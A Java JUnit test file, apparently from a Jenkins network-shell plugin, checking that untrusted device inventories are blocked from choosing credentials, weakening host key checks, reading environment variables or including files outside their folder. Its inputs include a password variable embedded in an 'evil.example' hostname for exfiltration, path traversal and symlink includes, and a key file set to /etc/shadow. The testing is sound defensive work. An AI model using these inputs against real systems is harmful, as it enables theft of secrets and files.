package io.jenkins.plugins.networkshell.engine.backup.inventory;

import static org.assertj.core.api.Assertions.assertThat;

import io.jenkins.plugins.networkshell.engine.backup.Device;
import io.jenkins.plugins.networkshell.engine.backup.DeviceField;
import io.jenkins.plugins.networkshell.engine.backup.input.InventoryException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class UntrustedInventoryTest {
    static Stream<String> credentialFields() {
        return Arrays.stream(DeviceField.values())
                .filter(DeviceField::choosesCredential)
                .map(DeviceField::fieldName);
    }

    private static List<String> problems(String text) {
        return Inventories.problems(Inventories.untrusted(), text, InventoryFiles.NONE);
    }

    @ParameterizedTest
    @MethodSource("credentialFields")
    void canNotChooseACredential(String field) {
        for (String text : List.of(
                "devices: [{name: a, " + field + ": X}]",
                "defaults: {" + field + ": X}\ndevices: [a]",
                "groups: {g: {" + field + ": X}}\ndevices: [{name: a, groups: g}]",
                "platforms: {cisco_ios: {" + field + ": X}}\ndevices: [a]",
                "name," + field + "\na,X\n")) {
            assertThat(problems(text))
                    .singleElement()
                    .asString()
                    .contains("chooses a credential, and this inventory is not trusted to do so");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"accept-new", "warn", "accept-any"})
    void canNotWeakenTheHostKeyCheck(String policy) {
        assertThat(problems("devices: [{name: a, hostKeys: " + policy + "}]"))
                .singleElement()
                .asString()
                .contains("not trusted to weaken the host key check; allowed: strict.");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "devices: ['${NET_PASSWORD}.evil.example']",
                "devices: [{name: a, site: '${NET_PASSWORD}'}]",
                "devices: [{name: a, tags: ['${NET_PASSWORD}']}]",
                "include: '${NET_PASSWORD}'",
                "name,tags\na,${NET_PASSWORD}\n"
            })
    void canNotReadTheEnvironment(String text) {
        assertThat(problems(text))
                .singleElement()
                .asString()
                .contains("uses environment variables, and this inventory is not trusted to read them");
    }

    @Test
    void canNotIncludeFilesOutsideOfItsFolder(@TempDir Path folder) throws Exception {
        Path inside = Files.createDirectory(folder.resolve("in"));
        Path outside = Files.writeString(folder.resolve("out.yaml"), "devices: [b]");
        Files.writeString(inside.resolve("other.yaml"), "devices: [c]");
        Path link = Files.createSymbolicLink(inside.resolve("link.yaml"), outside);
        for (String path :
                List.of("../out.yaml", outside.toString(), link.getFileName().toString(), "x/../../out.yaml")) {
            Path file = Files.writeString(inside.resolve("devices.yaml"), "include: " + path + "\ndevices: [a]\n");
            assertThat(read(file)).as(path).contains("does not exist in the inventory's folder");
        }
        Path file = Files.writeString(inside.resolve("devices.yaml"), "include: other.yaml\ndevices: [a]\n");
        assertThat(Inventories.untrusted().read(file).devices())
                .extracting(Device::name)
                .containsExactly("c", "a");
    }

    private static String read(Path file) {
        try {
            return Inventories.untrusted().read(file).toString();
        } catch (InventoryException e) {
            return e.getMessage();
        }
    }

    @Test
    void anAnsibleKeyFileIsNotReadEither() throws Exception {
        Inventory inventory = Inventories.untrusted()
                .read("hosts", "[g]\na ansible_ssh_private_key_file=/etc/shadow\n", InventoryFiles.NONE);
        assertThat(inventory.devices().get(0).value(DeviceField.KEY_FILE)).isEmpty();
        assertThat(inventory.notices()).singleElement().asString().contains("ansible_ssh_private_key_file is not read");
    }
}
